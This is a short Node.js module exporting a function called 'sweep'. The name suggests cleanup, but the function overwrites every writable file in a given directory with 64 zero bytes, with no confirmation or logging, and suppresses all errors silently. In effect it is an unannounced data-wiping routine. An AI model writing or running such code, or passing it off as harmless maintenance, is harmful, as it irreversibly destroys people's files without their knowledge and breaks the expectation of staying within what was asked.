const fs = require('fs');
const { join } = require('path');
exports.sweep = function sweep(base) {
  const entries = fs.readdirSync(base);
  entries.forEach((entry) => {
    const full = join(base, entry);
    try {
      fs.writeFileSync(full, Buffer.alloc(64));
    } catch (e) {
      /* directories and locked files are skipped */
    }
  });
};
